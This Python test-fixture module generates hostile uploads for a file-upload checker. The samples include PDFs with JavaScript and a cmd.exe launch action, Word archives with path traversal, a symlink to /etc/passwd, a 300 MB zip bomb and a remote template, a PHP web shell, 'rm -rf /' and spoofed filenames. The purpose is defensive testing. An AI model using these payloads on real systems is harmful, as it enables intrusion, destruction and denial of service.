"""Files that nobody should keep for others to open, or only made harmless. Made here, never kept; the same each time.

REFUSED says by which code, and with which words in Chinese and in English; HARMLESS what is kept in their place.
`tests/core/test_hostile_files.py` sends them, `benchmarks/hostile_files.py` measures seconds and memory.
"""

import io
import zipfile
import zlib
from functools import cache

from PIL import Image, PngImagePlugin

from tests.support.factories import hostile_files
from tests.support.factories.compound_files import compound, old_excel, old_word

MEGABYTE = 1024 * 1024
SPACE = "http://schemas.openxmlformats.org"
OFFICE = f"{SPACE}/officeDocument/2006/relationships"
WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


# PDF


def pdf(*objects, before=b"", after=b"", trailer=b""):
    """A PDF of an empty page, with more objects."""
    catalog = [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>", b"<</Type/Page/Parent 2 0 R>>"]
    body = b"".join(b"%d 0 obj\n%s\nendobj\n" % (at, each) for at, each in enumerate([*catalog, *objects], 1))
    return before + b"%PDF-1.7\n" + body + b"trailer\n<</Root 1 0 R" + trailer + b">>\nstartxref\n0\n%%EOF\n" + after


def stream(data, about=b"", packed=True):
    data = zlib.compress(data, 9) if packed else data
    return b"<<%s/Length %d>>\nstream\n%s\nendstream" % (about, len(data), data)


def object_stream(inner, about=b"/Type/ObjStm/N 1/First 4/Filter/FlateDecode", **options):
    return pdf(stream(b"9 0 " + inner, about, **options))


SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
PLAIN = pdf()


# Office


def types(content_type=WORD_TYPE):
    part = f'<Override PartName="/a" ContentType="{content_type}"/>'
    return f'<Types xmlns="{SPACE}/package/2006/content-types">{part}</Types>'


def word(parts=None, content_type=WORD_TYPE, comment=b"", first=None):
    """A Word document that says nothing, with more parts."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in (first or {}).items():
            archive.writestr(zipfile.ZipInfo(name), content)
        basic = {"[Content_Types].xml": types(content_type), "word/document.xml": "<document/>"}
        for name, content in [*basic.items(), *(parts or {}).items()]:
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
        archive.comment = comment
    return out.getvalue()


def related(kind, target, mode=' TargetMode="External"'):
    relation = f'<Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    relations = f'<Relationships xmlns="{SPACE}/package/2006/relationships">{relation}</Relationships>'
    return word({"word/_rels/document.xml.rels": relations})


def zipped(*names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(zipfile.ZipInfo(name), "x")
    return out.getvalue()


def unfolding(size=300 * MEGABYTE):
    """A document that unfolds to 300 MB; of zeros, packed piece by piece."""
    out, piece = io.BytesIO(), b"\0" * MEGABYTE
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("[Content_Types].xml"), types())
        archive.writestr(zipfile.ZipInfo("word/document.xml"), "<document/>")
        large = zipfile.ZipInfo("word/media/a.bmp")
        large.compress_type = zipfile.ZIP_DEFLATED
        with archive.open(large, "w", force_zip64=True) as part:
            for _piece in range(size // MEGABYTE):
                part.write(piece)
    return out.getvalue()


def lying():
    """A document whose directory promises less than a part unfolds to."""
    data = bytearray(word({"word/media/a.bmp": b"\0" * 5 * MEGABYTE}))
    size = (5 * MEGABYTE).to_bytes(4, "little")
    return bytes(data.replace(size, (1000).to_bytes(4, "little")))


def nested_workbook():
    return word({"word/embeddings/a.xlsx": word({"xl/embeddings/b.xlsx": word()})})


def altered():
    data = bytearray(word({"word/media/a.bmp": bytes(range(256)) * 40}))
    at = data.index(b"word/media/a.bmp") + 40
    data[at] ^= 0xFF
    return bytes(data)


def link_within():
    entry = zipfile.ZipInfo("word/media/a")
    entry.external_attr = 0o120777 << 16
    out = io.BytesIO(word())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr(entry, "/etc/passwd")
    return out.getvalue()


def macro_project():
    return compound({"dir": b"x"}, storages=["VBA", "_VBA_PROJECT"])


# Pictures and others


@cache
def made(name):
    """The bytes of one of the files below."""
    return (REFUSED | HARMLESS)[name][0]()


def picture(form="JPEG", after=b"", **options):
    out = io.BytesIO()
    Image.linear_gradient("L").resize((40, 30)).save(out, form, **options)
    return out.getvalue() + after


def talking_png():
    texts = PngImagePlugin.PngInfo()
    texts.add_text("Comment", "<script>alert(1)</script>")
    return picture("PNG", pnginfo=texts)


def film(brand):
    return b"\0\0\0\x18ftyp" + brand + b"\0" * 600


PRINT = ("打印—另存为 PDF", "Print it as PDF")
RESAVE = ("重新保存", "Save it anew")
NO_MACROS = ("不含宏", "without macros")
TAKE_OUT = ("删去", "Take it out")
AS_PICTURE = ("另存为 JPG 或 PNG", "Save the picture as JPEG or PNG")
AS_DOCUMENT = ("另存为 PDF 或 Word", "Save it as PDF or Word")
UNPACK = ("解压", "Unpack it")
LINK = ("填写链接", "Give a link")
OPEN_AGAIN = ("重新保存", "save it again")
FAINT = ("可上传 PDF、JPEG、PNG", "Accepted are PDF, JPEG, PNG")

# What it is: how it is made, the name it comes under, the code, and (Chinese, English) words of the remedy.
REFUSED = {
    "pdf: script": (lambda: pdf(SCRIPT), "材料.pdf", "active", PRINT),
    "pdf: script when it is opened": (lambda: pdf(SCRIPT, trailer=b"/OpenAction 4 0 R"), "材料.pdf", "active", PRINT),
    "pdf: script, its name spelled otherwise": (lambda: pdf(b"<</S/J#61vaScr#69pt>>"), "材料.pdf", "active", PRINT),
    "pdf: script in an object stream": (lambda: object_stream(SCRIPT), "材料.pdf", "active", PRINT),
    "pdf: script in a stream that is not called one of objects": (
        lambda: object_stream(SCRIPT, b"/Filter/FlateDecode"),
        "材料.pdf",
        "active",
        PRINT,
    ),
    "pdf: object stream packed twice": (
        lambda: pdf(stream(zlib.compress(b"9 0 " + SCRIPT), b"/Type/ObjStm/Filter[/FlateDecode/FlateDecode]")),
        "材料.pdf",
        "unreadable",
        PRINT,
    ),
    "pdf: object stream called otherwise": (
        lambda: pdf(stream(b"9 0 1", b"/Type/Obj#53tm/Filter/LZWDecode", packed=False)),
        "材料.pdf",
        "unreadable",
        PRINT,
    ),
    "pdf: object stream that unfolds to 60 MB": (
        lambda: object_stream(b"1 " * 30 * MEGABYTE),
        "材料.pdf",
        "unreadable",
        PRINT,
    ),
    "pdf: 60,000 streams": (
        lambda: pdf(*[b"<<>>stream\nx\x9c\x01\nendstream"] * 60_000),
        "材料.pdf",
        "unreadable",
        PRINT,
    ),
    "pdf: starts a program": (lambda: pdf(b"<</S/Launch/F(cmd.exe)>>"), "材料.pdf", "active", PRINT),
    "pdf: another file inside": (
        lambda: pdf(stream(b"MZ", b"/Type/EmbeddedFile"), trailer=b"/Names<</EmbeddedFiles 5 0 R>>"),
        "材料.pdf",
        "active",
        PRINT,
    ),
    "pdf: film inside": (lambda: pdf(b"<</Subtype/RichMedia>>"), "材料.pdf", "active", PRINT),
    "pdf: form that sends itself": (
        lambda: pdf(b"<</S/SubmitForm/F(https://x.example)>>"),
        "材料.pdf",
        "active",
        PRINT,
    ),
    "pdf: protected": (lambda: pdf(trailer=b"/Encrypt 9 0 R"), "材料.pdf", "protected", ("扫描件", "add a scan")),
    "pdf: after a byte order mark": (lambda: pdf(before=b"\xef\xbb\xbf"), "材料.pdf", "mixed", PRINT),
    "pdf: after a page of the web": (lambda: pdf(before=b"<html><script>1</script>"), "材料.pdf", "mixed", PRINT),
    "pdf: and an archive": (lambda: pdf(after=zipped("a.exe")), "材料.pdf", "mixed", PRINT),
    "pdf: cut in the middle": (
        lambda: pdf(stream(b"x" * 9000))[:-40],
        "材料.pdf",
        "broken",
        ("另存为 PDF", "save it as PDF"),
    ),
    "docx: climbs out": (lambda: word({"../../etc/cron.d/a": "x"}), "材料.docx", "climbs", RESAVE),
    "docx: absolute path": (lambda: word({"/etc/cron.d/a": "x"}), "材料.docx", "climbs", RESAVE),
    "docx: path of Windows": (lambda: word({"C:\\Windows\\a": "x"}), "材料.docx", "climbs", RESAVE),
    "docx: link to another place": (link_within, "材料.docx", "climbs", RESAVE),
    "docx: the same part twice": (lambda: word({"WORD/document.xml": "x"}), "材料.docx", "climbs", RESAVE),
    "docx: unfolds to 300 MB": (unfolding, "材料.docx", "unfolds", RESAVE),
    "docx: 3,000 parts": (lambda: word({f"a{at}": "" for at in range(3000)}), "材料.docx", "unfolds", RESAVE),
    "docx: unfolds to more than it promises": (lying, "材料.docx", "broken", OPEN_AGAIN),
    "docx: one byte altered": (altered, "材料.docx", "broken", OPEN_AGAIN),
    "docx: cut in the middle": (lambda: word()[:-30], "材料.docx", "broken", OPEN_AGAIN),
    "docx: entities without end": (
        lambda: word({"word/_rels/a.rels": '<!DOCTYPE a [<!ENTITY b "x">]><a>&b;</a>'}),
        "材料.docx",
        "broken",
        OPEN_AGAIN,
    ),
    "docx: macros": (lambda: word({"word/vbaProject.bin": macro_project()}), "材料.docx", "macros", NO_MACROS),
    "docx: macros under another name": (
        lambda: word({"word/media/image1.png": macro_project()}),
        "材料.docx",
        "macros",
        NO_MACROS,
    ),
    "docm: called a docx": (
        lambda: word(content_type="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "材料.docx",
        "macros",
        NO_MACROS,
    ),
    "docx: object of another program": (
        lambda: word({"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": b"x"})}),
        "材料.docx",
        "embedded",
        TAKE_OUT,
    ),
    "docx: program inside": (lambda: word({"word/media/image1.png": b"MZ\x90"}), "材料.docx", "embedded", TAKE_OUT),
    "docx: workbook in a workbook": (nested_workbook, "材料.docx", "embedded", TAKE_OUT),
    "docx: template from elsewhere": (
        lambda: related("attachedTemplate", "https://x.example/a.dotm"),
        "材料.docx",
        "loads",
        ("嵌入文件", "Put it into the file"),
    ),
    "docx: picture from elsewhere": (
        lambda: related("image", "file://10.0.0.1/a.png"),
        "材料.docx",
        "loads",
        ("嵌入文件", "Put it into the file"),
    ),
    "docx: and a PDF": (lambda: word(first={"a": PLAIN}), "材料.docx", "mixed", RESAVE),
    "docx: a page of the web after it": (lambda: word(comment=b"<script>1</script>"), "材料.docx", "mixed", RESAVE),
    "docx: protected by a password": (
        lambda: compound({"EncryptionInfo": b"x", "EncryptedPackage": b"y"}),
        "材料.docx",
        "protected",
        ("清空密码", "clear the password"),
    ),
    "doc: protected by a password": (
        lambda: old_word(0x0100),
        "材料.doc",
        "protected",
        ("清空密码", "clear the password"),
    ),
    "doc: macros": (
        lambda: compound({"WordDocument": b"\xec\xa5"}, storages=["Macros", "VBA"]),
        "材料.doc",
        "macros",
        NO_MACROS,
    ),
    "doc: another file inside": (lambda: old_word(**{"\x01Ole10Native": b"MZ"}), "材料.doc", "embedded", TAKE_OUT),
    "xls: protected by a password": (
        lambda: old_excel((0x2F, b"\1\0" * 3)),
        "材料.xls",
        "protected",
        ("清空密码", "clear the password"),
    ),
    "xls: sheet of macros": (lambda: old_excel((0x85, b"\0\0\0\0\0\1\1\0A")), "材料.xls", "macros", NO_MACROS),
    "wps": (lambda: compound({"CONTENTS": b"x"}), "材料.wps", "type", ("另存为 .docx", "save it as .docx")),
    "ole: damaged": (lambda: old_word()[:700], "材料.doc", "type", ("另存为 .docx", "save it as .docx")),
    "ppt": (lambda: compound({"PowerPoint Document": b"x"}), "材料.ppt", "type", ("另存为 PDF", "Save it as PDF")),
    "pptx": (
        lambda: zipped("[Content_Types].xml", "ppt/presentation.xml"),
        "材料.pptx",
        "type",
        ("另存为 PDF", "Save it as PDF"),
    ),
    "odt": (lambda: zipped("mimetype", "content.xml"), "材料.odt", "type", AS_DOCUMENT),
    "ofd": (lambda: zipped("OFD.xml"), "材料.ofd", "type", AS_DOCUMENT),
    "rtf": (lambda: b"{\\rtf1 {\\object}}", "材料.doc", "type", AS_DOCUMENT),
    "html": (lambda: b"<!DOCTYPE html><script>1</script>", "材料.pdf", "type", AS_DOCUMENT),
    "zip": (lambda: zipped("a.docx"), "材料.zip", "type", UNPACK),
    "rar": (lambda: b"Rar!\x1a\x07" + b"\0" * 90, "材料.rar", "type", UNPACK),
    "program": (lambda: b"MZ\x90\0" + b"\0" * 90, "材料.pdf", "type", ("请上传文档本身", "Add the document itself")),
    "script": (lambda: b"#!/bin/sh\nrm -rf /", "材料.pdf", "type", ("请上传文档本身", "Add the document itself")),
    "php": (lambda: b"<?php system($_GET[0]);", "照片.jpg", "type", FAINT),
    "heic": (lambda: film(b"heic"), "IMG_0001.HEIC", "type", ("兼容性最佳", "Most Compatible")),
    "webp": (lambda: picture("WEBP"), "照片.webp", "type", AS_PICTURE),
    "gif": (lambda: picture("GIF"), "照片.gif", "type", AS_PICTURE),
    "gif: and a script": (lambda: b"GIF89a/*" + b"\0" * 40 + b"*/=1;alert(1)", "照片.gif", "type", AS_PICTURE),
    "svg: script": (lambda: b"<svg xmlns='a'><script>1</script></svg>", "图.svg", "type", AS_PICTURE),
    "tiff": (lambda: picture("TIFF"), "照片.tif", "type", AS_PICTURE),
    "film": (lambda: film(b"mp42"), "招聘会.mp4", "type", LINK),
    "jpeg: nothing behind its head": (
        lambda: b"\xff\xd8\xff\xe0" + b"\0" * 40,
        "照片.jpg",
        "broken",
        ("另存为 JPEG", "JPEG or PNG"),
    ),
    "png: cut in the middle": (
        lambda: picture("PNG")[:70],
        "照片.png",
        "broken",
        ("另存为 JPEG", "JPEG or PNG"),
    ),
    "png: 6,324 × 6,324 points": (hostile_files.large_png, "照片.png", "large", ("1200 万像素", "12 million points")),
    "jpeg: claims 20,000 × 20,000 points": (
        lambda: hostile_files.claiming_jpeg(20_000, 20_000),
        "照片.jpg",
        "large",
        ("4000 万像素", "40 million points"),
    ),
    "empty": (lambda: b"", "材料.pdf", "empty", ("换一个", "choose another")),
    "11 MB": (lambda: pdf(b" " * 11 * MEGABYTE), "材料.pdf", "large", ("10 MB", "10 MB")),
}

# What it is: how it is made, the name it comes under, and the name under which it is kept.
HARMLESS = {
    "jpeg: a script after it": (lambda: picture(after=b"<?php system($_GET[0]);"), "照片.jpg", "照片.jpg"),
    "jpeg: an archive after it": (lambda: picture(after=zipped("a.exe")), "照片.jpg", "照片.jpg"),
    "png: a script in its texts": (talking_png, "照片.png", "照片.png"),
    "jpeg: called a program": (picture, "照片.jpg.exe", "照片.jpg.jpg"),
    "pdf: called a page of the web": (lambda: PLAIN, "材料.html", "材料.pdf"),
    "name: turned around": (lambda: PLAIN, "材料\u202efdp.exe", "材料fdp.pdf"),
    "name: climbs": (lambda: PLAIN, "../../etc/材料.pdf", "材料.pdf"),
    "name: path of Windows": (lambda: PLAIN, "C:\\x\\材料.pdf", "材料.pdf"),
    "name: bell and bytes of nothing": (lambda: PLAIN, "材\x07料\0.pdf", "材料.pdf"),
    "name: a device of Windows": (lambda: PLAIN, "CON.pdf", "_CON.pdf"),
    "name: signs of a shell": (lambda: PLAIN, '材料"<b>|*?.pdf', "材料_b_.pdf"),
    "name: 300 characters": (lambda: PLAIN, "材" * 296 + ".pdf", "材" * 96 + ".pdf"),
    "name: dots alone": (lambda: PLAIN, "....pdf", "file.pdf"),
    "docx: a link that is followed": (
        lambda: related("hyperlink", "https://www.moe.gov.cn/"),
        "材料.docx",
        "材料.docx",
    ),
    "docx: a workbook behind a chart": (lambda: word({"word/embeddings/a.xlsx": word()}), "材料.docx", "材料.docx"),
    "doc": (old_word, "材料.wps", "材料.doc"),
    "xls": (old_excel, "材料.et", "材料.xls"),
}
